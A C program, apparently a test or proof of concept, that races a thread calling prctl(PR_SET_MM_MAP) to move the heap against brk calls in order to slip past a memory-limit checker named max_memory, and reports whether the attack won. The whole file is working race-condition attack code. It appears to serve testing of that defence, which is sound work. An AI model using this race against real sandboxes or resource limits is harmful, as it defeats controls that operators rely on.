/* Attack on max_memory's judging of brk: while one thread asks for a break X, another moves the
 * heap with prctl(PR_SET_MM, PR_SET_MM_MAP) between "starts and ends at X" (so brk(X) looks
 * free) and "starts and ends at Y", a free hole MIB below X (so the kernel grows it by MIB).
 *
 *   brk_race MIB TRIES
 *
 * Prints "set_mm ERRNO-NAME, grew G after T tries": G is 1 when the heap ever grew over the
 * hole (the attack won), T the brk calls made. Exits 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/prctl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct prctl_mm_map base;
static uint64_t low, high;
static volatile int started, stop;
static volatile unsigned long moves; /* pairs of moves made */
static volatile int set_mm_error;

static void set_heap(uint64_t at) {
    struct prctl_mm_map map = base;
    map.start_brk = map.brk = at;
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) set_mm_error = errno;
}

static void* mover(void* arg) {
    (void)arg;
    while (!started) {
    }
    while (!stop) {
        set_heap(high);
        set_heap(low);
        ++moves;
    }
    return NULL;
}

int main(int argc, char** argv) {
    if (argc != 3) return 2;
    const uint64_t size = strtoull(argv[1], NULL, 10) << 20;
    const long tries = strtol(argv[2], NULL, 10);
    /* Any ordered values within the address space pass PR_SET_MM_MAP's checks. */
    extern char __executable_start, etext, edata;
    int on_stack;
    base.start_code = (uint64_t)&__executable_start;
    base.end_code = (uint64_t)&etext;
    base.start_data = base.end_data = (uint64_t)&edata;
    base.start_stack = (uint64_t)&on_stack;
    base.arg_start = (uint64_t)argv[0];
    base.arg_end = base.env_start = base.env_end = (uint64_t)argv[0] + strlen(argv[0]) + 1;
    base.exe_fd = (uint32_t)-1;
    pthread_t thread;
    if (pthread_create(&thread, NULL, mover, NULL) != 0) return 1;
    /* A free hole (its thread's stack already mapped elsewhere). */
    void* hole = mmap(NULL, size + (1 << 20), PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (hole == MAP_FAILED) return 1;
    munmap(hole, size + (1 << 20));
    low = (uint64_t)hole;
    high = low + size;
    started = 1;
    int grew = 0;
    long made = 0;
    unsigned char resident;
    while (made < tries && !grew) {
        /* The mover must run during the tries, not sit descheduled on a loaded machine while
         * 20,000 unjudged brk calls pass in a few milliseconds: every 16 tries wait for a move. */
        if (made % 16 == 0) {
            const unsigned long seen = moves;
            while (moves == seen) {
            }
        }
        syscall(SYS_brk, high);
        ++made;
        grew = mincore((void*)low, 4096, &resident) == 0;  /* mapped: the heap grew from the hole */
    }
    stop = 1;
    pthread_join(thread, NULL);
    printf("set_mm %s, grew %d after %ld tries\n", set_mm_error == 0 ? "ok" : strerrorname_np(set_mm_error), grew, made);
    return 0;
}
